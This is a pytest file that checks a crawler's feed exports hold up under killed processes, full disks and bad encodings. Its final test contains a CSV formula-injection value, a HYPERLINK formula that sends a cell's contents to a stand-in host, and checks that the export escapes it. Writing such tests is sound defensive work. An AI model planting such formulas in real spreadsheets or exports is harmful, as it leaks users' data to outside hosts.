"""Feed exports: no stored article is without its row, no row is partial, and a lost row fails the run."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import resource
import signal
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from tests.robustness.toy_corpus import NAMES, run_command
from tests.support.mirror import Run, scrapy
from tests.support.toy_site import TOY, Site, written

GZIP = "scrapy.extensions.postprocessing.GzipPlugin"
LIMIT = 4 << 20  # bytes of a file; the ledger is smaller


def crawl(site: Site, *options: str, first: Callable[[], None] | None = None) -> Run:
    words = ("crawl", "toy", "-s", f"OUTPUT_DIR={site.output}", *TOY, "-s", f"REPLAY={site.folder}", *options)
    process = scrapy(*words, first=first)
    return Run(site.output, process.stderr, process.returncode)


@pytest.fixture
def articles(site: Site) -> Site:
    site.listing("news", *NAMES)
    for name in NAMES:
        site.article(name, body=f'<p>text, of "{name}".</p><p>second line</p>')
    return site


def rows(path: Path) -> list[str]:
    """Return the ids of the rows of a feed. Raises an error if the file is not valid."""
    text = path.read_text(encoding="utf-8")
    if path.suffix == ".json":
        return [row["id"] for row in json.loads(text)]
    if path.suffix == ".xml":
        return [node.findtext("id", "") for node in ElementTree.fromstring(text)]  # our own file
    if path.suffix == ".csv":
        found = list(csv.DictReader(io.StringIO(text, newline="")))
        assert all(None not in row and None not in row.values() for row in found), "a row with other columns"
        assert not text or text.endswith("\n")
        return [row["id"] for row in found if row["id"] != "id"]
    assert not text or text.endswith("\n")
    return [json.loads(line)["id"] for line in text.splitlines()]


def kill_at(number: int, owner: str, when: str) -> None:
    """Kill this process at call *number* of the pipeline *owner*."""
    from crawler.pipelines import feed, store

    pipeline: Any = {"feed": feed.FeedPipeline, "store": store.StorePipeline}[owner]
    process_item = pipeline.process_item
    calls: list[object] = []

    def killing(self: object, item: object) -> object:
        calls.append(item)
        if len(calls) == number and when == "before":
            os.kill(os.getpid(), signal.SIGKILL)
        result = process_item(self, item)
        if len(calls) == number:
            os.kill(os.getpid(), signal.SIGKILL)
        return result

    pipeline.process_item = killing


@pytest.mark.parametrize("ending", ["jsonl", "csv"])
@pytest.mark.parametrize(("owner", "when"), [("feed", "before"), ("store", "before"), ("store", "after")])
def test_kill_leaves_no_article_without_its_row(articles: Site, ending: str, owner: str, when: str) -> None:
    feed = articles.output.parent / f"feed.{ending}"
    run = crawl(articles, "-o", str(feed), first=partial(kill_at, 2, owner, when))
    assert run.exit_code == -signal.SIGKILL
    assert {*rows(feed)} >= written(run)
    assert len(rows(feed)) == (1 if owner == "feed" else 2)
    second = crawl(articles, "-o", str(feed))
    assert second.exit_code == 0, second.log
    assert {*rows(feed)} == written(second) == {*NAMES}


@pytest.mark.parametrize("ending", ["json", "xml"])
def test_kill_keeps_the_file_and_the_rows_of_a_document(articles: Site, ending: str) -> None:
    feed = articles.output.parent / f"feed.{ending}"
    feed.write_text("earlier")
    run = crawl(articles, "-O", str(feed), first=partial(kill_at, 3, "store", "after"))
    assert run.exit_code == -signal.SIGKILL
    assert feed.read_text() == "earlier"
    second = crawl(articles, "-O", str(feed))
    kept = feed.with_name(f"feed.incomplete.{ending}")
    assert f"{feed} has no rows of a run that was killed: they are in {kept}" in second.log
    assert all(f"/{name}.html" in kept.read_text() for name in NAMES)
    assert rows(feed) == []
    assert not list(feed.parent.glob(".*.tmp"))


def limit_files() -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (LIMIT, LIMIT))


def assert_failed(site: Site, run: Run, missing: int) -> None:
    assert run.exit_code == 5, run.log
    assert "Traceback" not in run.log
    assert run.log.count("the run ends: disk: ") + run.log.count("the run fails: disk: ") == 1, run.log
    assert f"rows.missing={missing}" in run.log
    assert f" lacks {missing} row" in run.log
    code, printed = run_command(site, "health", "--json")
    assert (code, json.loads(printed)[0]["kind"]) == (1, "disk")


FULL = {"jsonl": (b'{"id": "x"}\n', b'{"id": "x"}\n'), "csv": (b"id,markdown\r\n", b"x,y\r\n")}


@pytest.mark.parametrize("ending", ["jsonl", "csv", "json", "xml"])
def test_full_disk_leaves_whole_rows_and_the_lost_ones_are_fetched_again(articles: Site, ending: str) -> None:
    """One article is too long for the rest of the disk; of JSON and XML, the second row cannot be written."""
    feed = articles.output.parent / f"feed.{ending}"
    if ending in FULL:
        articles.article("a2", body="<p>long</p>" * 400)
        start, line = FULL[ending]
        feed.write_bytes(start + line * ((LIMIT - 600 - len(start)) // len(line)))
    fields = ("-s", "FEED_EXPORT_FIELDS=id,markdown")
    run = crawl(articles, "-o", str(feed), *fields, first=limit_files if ending in FULL else partial(fail_write, 2))
    lost = {*NAMES} - {*rows(feed)}
    assert lost
    assert written(run) == {*NAMES} - lost
    assert_failed(articles, run, len(lost))
    feed.unlink()
    second = crawl(articles, "-o", str(feed), *fields)
    assert second.exit_code == 0, second.log
    assert {*rows(feed)} == lost
    assert written(second) == {*NAMES}


def fail_write(number: int) -> None:
    """Let write *number* of a feed be partial, and the next one fail, as on a full disk."""
    write, calls = os.write, []

    def full(handle: int, data: bytes) -> int:
        if Path(f"/proc/self/fd/{handle}").readlink().name.startswith((".feed", "feed")):
            calls.append(handle)
            if len(calls) == number:
                return write(handle, data[: len(data) // 2])
            if len(calls) == number + 1:
                raise OSError(28, "No space left on device")
        return write(handle, data)

    os.write = full  # type: ignore[assignment]


@pytest.mark.parametrize(("option", "form"), [("-o", "jsonlines"), ("-O", "csv"), ("-o", "json"), ("-O", "xml")])
def test_device_without_space(articles: Site, option: str, form: str) -> None:
    run = crawl(articles, option, f"/dev/full:{form}")
    assert written(run) == set()
    assert_failed(articles, run, len(NAMES))
    assert "No space left on device: '/dev/full'" in run.log


def test_standard_output_without_space(articles: Site) -> None:
    run = crawl(articles, "-o", "-:jsonlines", first=full_stdout)
    assert run.exit_code == 5
    assert "Traceback" not in run.log
    assert written(run) == set()


def full_stdout() -> None:
    os.dup2(os.open("/dev/full", os.O_WRONLY), 1)


@pytest.mark.parametrize("ending", ["json", "xml", "jsonl.gz"])
def test_document_that_cannot_be_completed(articles: Site, ending: str) -> None:
    """All of its rows are missing, but the file of an earlier run stays."""
    feed = articles.output.parent / f"feed.{ending}"
    feed.write_text("earlier")
    options = {"format": "jsonlines", "postprocessing": [GZIP]} if ending.endswith("gz") else {"format": ending}
    feeds = json.dumps({str(feed): {**options, "overwrite": True}})
    run = crawl(articles, "-s", f"FEEDS={feeds}", first=fail_sync)
    assert_failed(articles, run, len(NAMES))
    assert feed.read_text() == "earlier"
    assert not list(feed.parent.glob(".*.tmp"))


def fail_sync() -> None:
    fsync = os.fsync

    def full(handle: int) -> None:
        if ".feed" in str(Path(f"/proc/self/fd/{handle}").readlink()):
            raise OSError(28, "No space left on device")
        fsync(handle)

    os.fsync = full  # type: ignore[assignment]


@pytest.mark.parametrize("ending", ["jsonl", "json"])
def test_folder_in_place_of_the_feed(articles: Site, ending: str) -> None:
    feed = articles.output.parent / f"feed.{ending}"
    feed.mkdir()
    run = crawl(articles, "-o", str(feed))
    assert_failed(articles, run, len(NAMES))
    assert f"Is a directory: '{feed}'" in run.log


def test_feed_of_an_unknown_format_is_not_fine(articles: Site) -> None:
    run = crawl(articles, "-s", 'FEEDS={"feed.doc": {"format": "doc"}}')
    assert run.exit_code == 5
    assert written(run) == set()


@pytest.mark.parametrize("ending", ["jsonl", "csv", "json", "xml"])
def test_rows_of_a_fine_run(articles: Site, ending: str) -> None:
    feed = articles.output.parent / "new" / f"feed.{ending}"
    for option in ("-O", "-O"):
        run = crawl(articles, option, str(feed), "-a", "refresh=100000")
        assert run.exit_code == 0, run.log
        assert sorted(rows(feed)) == sorted(NAMES)
    created = feed.with_name("created")
    created.touch()
    assert feed.stat().st_mode == created.stat().st_mode
    created.unlink()
    assert [path.name for path in feed.parent.iterdir()] == [feed.name]


def test_feeds_with_compression_batches_and_filters(articles: Site) -> None:
    folder = articles.output.parent / "feeds"
    feeds = {
        f"{folder}/all.jsonl.gz": {"format": "jsonlines", "postprocessing": [GZIP]},
        f"{folder}/part-%(batch_id)d.jsonl": {"format": "jsonlines", "batch_item_count": 2},
    }
    run = crawl(articles, "-s", f"FEEDS={json.dumps(feeds)}")
    assert run.exit_code == 0, run.log
    lines = gzip.decompress((folder / "all.jsonl.gz").read_bytes()).splitlines()
    assert sorted(json.loads(line)["id"] for line in lines) == sorted(NAMES)
    assert [len(rows(folder / f"part-{number}.jsonl")) for number in (1, 2)] == [2, 1]


def test_value_that_an_encoding_lacks_is_an_internal_error(articles: Site) -> None:
    articles.article("a2", body="<p>text of a2 \U0001f600.</p>")
    feed = articles.output.parent / "feed.jsonl"
    run = crawl(articles, "-o", str(feed), "-s", "FEED_EXPORT_ENCODING=gbk")
    assert run.exit_code == 1
    assert sorted(json.loads(line)["id"] for line in feed.read_text("gbk").splitlines()) == ["a1", "a3"]
    assert written(run) == {"a1", "a3"}
    assert "lacks 1 row" in run.log


def test_only_csv_has_apostrophes_before_formulas(articles: Site) -> None:
    """JSON and the files of the corpus stay as they are."""
    formula = '=HYPERLINK("http://toy.example/?x="&A1,"About a1")'
    articles.article("a1", body="<p>＋1, the text of a1.</p>", title=formula)
    folder = articles.output.parent
    run = crawl(articles, "-o", f"{folder}/feed.csv", "-o", f"{folder}/feed.jsonl")
    assert run.exit_code == 0, run.log
    cells = {row["id"]: row for row in csv.DictReader(io.StringIO((folder / "feed.csv").read_text(), newline=""))}
    assert cells["a1"]["title"] == f"'{formula}"
    assert cells["a1"]["markdown"] == "'＋1, the text of a1."
    assert cells["a2"]["title"] == "About a2"
    assert cells["a1"]["date"] == "2025-02-11 08:00:00"
    lines = [json.loads(line) for line in (folder / "feed.jsonl").read_text().splitlines()]
    assert next(line for line in lines if line["id"] == "a1")["title"] == formula
    assert formula.replace('"', r"\"") in run.files("toy")["a1"].decode()
